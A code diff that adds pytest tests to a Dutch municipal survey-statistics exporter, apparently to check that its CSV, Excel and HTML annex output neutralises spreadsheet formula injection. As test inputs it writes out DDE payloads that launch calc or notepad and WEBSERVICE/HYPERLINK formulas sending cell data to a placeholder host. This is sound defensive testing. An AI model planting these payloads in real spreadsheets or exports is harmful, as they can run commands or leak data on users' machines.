@@ -2,14 +2,19 @@
 
 from __future__ import annotations
 
+import csv
+import html
 import io
+import re
+import shutil
+import zipfile
 
 import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
 from ivb_analysis import export
-from ivb_analysis.tables import AnnexTable, Column
+from ivb_analysis.tables import AnnexTable, Column, format_cell, format_value
 
 BANNER = "SYNTHETISCHE DEMODATA"
 SOURCE = "Bron: Veiligheidsmonitor 2015, bewerking gemeente Proefstad"
@@ -178,3 +183,131 @@ def test_column_descriptions_for_year_columns():
     assert export.column_description("2015") == "uitkomst in 2015"
     assert export.column_description("p_adjusted_2015").startswith("p-waarde na Benjamini")
     assert export.column_description("onbekend") is None
+
+
+# --- a real annex with hostile names: no formula anywhere, workbook = CSV = annex ----------------
+
+WIJK_FORMULA = '=HYPERLINK(CONCAT("http://x.example/?",A1),"klik")'
+WIJK_DDE = "+cmd|' /C calc'!A0"
+WIJK_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
+WIJK_MINUS = "-2+3+cmd|' /C notepad'!A0"
+OVERLEG_FORMULA = '=WEBSERVICE("http://x.example/?q="&A1)'
+CRIME_FORMULA = "=1+1 Totaal misdrijven"
+HOSTILE = (WIJK_FORMULA, WIJK_DDE, WIJK_AT, WIJK_MINUS, OVERLEG_FORMULA, CRIME_FORMULA)
+YEAR = 2015
+
+
+@pytest.fixture(scope="module")
+def hostile_annex(tmp_path_factory):
+    """The mini delivery with wijk names, a casework label and a crime label that a
+    spreadsheet would run as formulas; the 2015 annex written (CSV, workbook, HTML)."""
+    from ivb_analysis.annex import write_annex
+    from ivb_analysis.config import load_settings
+    from tests.conftest import ROOT
+
+    tmp = tmp_path_factory.mktemp("formules")
+    raw = tmp / "raw" / "mini"
+    shutil.copytree(ROOT / "data" / "raw" / "mini", raw)
+    for file, old, new in (("wijken_SYNTHETISCH.csv", ";Binnenstad", f";{WIJK_FORMULA}"),
+                           ("wijken_SYNTHETISCH.csv", ";Hengelose Es", f";{WIJK_DDE}"),
+                           ("wijken_SYNTHETISCH.csv", ";Noord", f";{WIJK_AT}"),
+                           ("wijken_SYNTHETISCH.csv", ";Hasseler Es", f";{WIJK_MINUS}"),
+                           ("veiligheidshuis_casuistiek_SYNTHETISCH.csv", ";Code Rood;",
+                            f";{OVERLEG_FORMULA};"),
+                           ("politie_47018NED_wijken_SYNTHETISCH.csv", '"Totaal misdrijven"',
+                            f'"{CRIME_FORMULA}"')):
+        path = raw / file
+        text = path.read_text(encoding="utf-8")
+        assert old in text, (file, old)
+        path.write_text(text.replace(old, new), encoding="utf-8")
+    settings = load_settings(raw, output_dir=tmp / "uit", processed_dir=tmp / "verwerkt")
+    write_annex(settings, YEAR)
+    return tmp / "uit" / str(YEAR)
+
+
+def test_no_cell_of_the_workbook_is_a_formula(hostile_annex):
+    book = load_workbook(hostile_annex / "tables" / f"tabellen_{YEAR}.xlsx")
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if c.data_type == "s"}
+    for name in HOSTILE:  # the names are there, as text
+        assert name in texts, name
+    with zipfile.ZipFile(hostile_annex / "tables" / f"tabellen_{YEAR}.xlsx") as archive:
+        xml = "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
+                      if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml and "<f " not in xml
+
+
+def test_csv_text_cells_never_start_a_formula(hostile_annex):
+    found = set()
+    for path in sorted((hostile_annex / "tables").glob("*.csv")):
+        with path.open(encoding="utf-8", newline="") as handle:
+            rows = list(csv.reader(handle))
+        for row in rows[1:]:
+            for cell in row:
+                try:
+                    float(cell)
+                    continue  # a number, e.g. -0.84
+                except ValueError:
+                    pass
+                assert not cell.startswith(export.FORMULA_START), (path.name, cell)
+                if cell.startswith("'"):
+                    found.add(cell[1:])
+    assert set(HOSTILE) <= found
+    guide = (hostile_annex / "tables" / "LEESMIJ.txt").read_text(encoding="utf-8")
+    assert "een enkel aanhalingsteken ervoor" in guide
+
+
+def test_csv_neutralises_tab_and_carriage_return_too():
+    frame = pd.DataFrame({"naam": ["\tx", "\ry", "ok", "a-b", "-", "@", "+1"], "getal": range(7)})
+    lines = export.csv_text(frame).split("\n")[:-1]
+    assert lines[1:] == ["'\tx,0", "'\ry,1", "ok,2", "a-b,3", "'-,4", "'@,5", "'+1,6"]
+
+
+def _sheet_rows(sheet):
+    headers = [c.value for c in sheet[3]]
+    rows = []
+    for row in sheet.iter_rows(min_row=4):
+        if row[0].value is None:
+            break
+        rows.append(dict(zip(headers, row, strict=False)))
+    return rows
+
+
+def test_workbook_values_equal_the_csv_and_the_annex_table(hostile_annex):
+    """Opened as a council staffer would: every sheet says what it holds; percentages are
+    fractions with a percent format; the numbers are the CSV's; formatted, they read as in
+    the annex's table; p-values read exactly as in the annex."""
+    book = load_workbook(hostile_annex / "tables" / f"tabellen_{YEAR}.xlsx")
+    assert book.sheetnames[0] == "Inhoud" and book.sheetnames[-1] == "Methode"
+    assert all(re.fullmatch(r"T\d\d \S.{2,26}", n) for n in book.sheetnames[1:-1])
+    assert "T01 Kerncijfers" in book.sheetnames
+    page = (hostile_annex / "bijlage.html").read_text(encoding="utf-8")
+    compared = 0
+    for key, sheet_title in (("kerncijfers", "T01 Kerncijfers"),
+                             ("wijk_overlast_totaal", "Overlast totaal per wijk"),
+                             ("wijk_rapportcijfer_leefbaarheid", "Cijfer leefbaarheid wijk")):
+        sheet = next(book[n] for n in book.sheetnames if n.endswith(sheet_title))
+        data = pd.read_csv(hostile_annex / "tables" / f"{key}.csv")
+        table = page[page.index(f'id="T_{key}"'):]
+        table = table[:table.index("</table>")]
+        html_rows = [[html.unescape(c) for c in re.findall(r"<td[^>]*>([^<]*)</td>", r)]
+                     for r in re.findall(r"<tr[^>]*>(.*?)</tr>", table, flags=re.S)[1:]]
+        rows = _sheet_rows(sheet)
+        assert len(rows) == len(data) == len(html_rows), key
+        for row, (_, tidy), cells in zip(rows, data.iterrows(), html_rows, strict=True):
+            value = row[f"Waarde {YEAR}"]
+            percentage = tidy["kind"] == "percentage"
+            if pd.isna(tidy["estimate"]):
+                continue
+            expected = tidy["estimate"] / 100 if percentage else tidy["estimate"]
+            assert value.value == pytest.approx(expected, abs=1e-12), (key, tidy["label"])
+            assert value.number_format == ("0%" if tidy["estimate"] >= 9.95 else "0.0%") \
+                if percentage else value.number_format == "#,##0.0"
+            shown = format_value(value.value * (100 if percentage else 1), tidy["kind"])
+            assert shown in cells, (key, shown, cells)
+            if "p (gecorrigeerd)" in row:
+                assert row["p (gecorrigeerd)"].value == format_cell(tidy["p_adjusted"], "pvalue")
+                assert row["p (gecorrigeerd)"].value in cells
+            compared += 1
+    assert compared >= 15
